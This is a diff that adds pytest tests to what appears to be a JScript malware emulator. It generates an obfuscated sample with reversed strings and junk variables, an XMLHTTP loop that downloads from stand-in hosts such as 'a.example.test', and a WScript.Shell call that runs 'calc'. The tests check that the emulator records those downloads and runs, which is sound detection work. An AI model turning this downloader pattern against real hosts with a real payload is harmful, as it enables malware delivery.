@@ -353,3 +353,33 @@ def test_commands_know_the_variables_the_script_set():
 def test_inside_with_only_members_of_the_object_are_its_own():
     found = run("var o = {b: 'a.exe'}; with (new ActiveXObject('WScript.Shell')) { Run(o.b, 0); }")
     assert effects(found, "run") == ["a.exe"]
+
+
+def decoding(state):
+    """A script that keeps its texts in reverse, and tries three addresses. `state`: a statement in its decoder."""
+    junk = "".join(f"var j{number} = r('{number}x');\n" for number in range(60))
+    hosts = "".join(f"r('/tset.elpmaxe.{host}//:ptth'), " for host in "abc")
+    return (
+        f"var k = 0, calls = 0;\nfunction r(t) {{ calls++; {state} return t.split('').reverse().join('') }}\n{junk}"
+        f"var x = new ActiveXObject(r('PTTHLMX.2LMXSM')), hosts = [{hosts}''];\n"
+        "for (var i = 0; i < 3; i++) { try { x.open(r('TEG'), hosts[i], 0); x.send();\n"
+        "if (x.status == 200) { new ActiveXObject(r('llehS.tpircSW')).Run('calc ' + calls); break } } catch (e) {} }"
+    )
+
+
+@pytest.mark.parametrize(
+    ("state", "ends"),
+    [("", ("test/", "test/", "test/")), ("k++; if (k > 60) t = t.replace('tset', k + 'tset'); ", ("test26/", "test36/", "test46/"))],
+)
+def test_a_script_that_decodes_many_texts_tries_all_addresses(state, ends):
+    """Also where what the decoder gives depends on how often it was called: texts known from the first run are of no use then."""
+    found = run(decoding(state))
+    assert effects(found, "download") == [f"http://{host}.example.{end}" for host, end in zip("abc", ends, strict=True)]
+    assert effects(found, "run") == ["calc 66"]
+
+
+@pytest.mark.parametrize(
+    ("written", "text"), [("YWJj", "abc"), ("YW Jj\\n", "abc"), ("YWI=", "ab"), ("YQ", "a"), ("YWJjZ", "abc"), ("Y!Q=", "none"), ("", "")]
+)
+def test_base64_of_scripts(written, text):
+    assert said(f"var t; try {{ t = atob('{written}') }} catch (e) {{ t = 'none' }} WScript.Echo(t)") == [text]
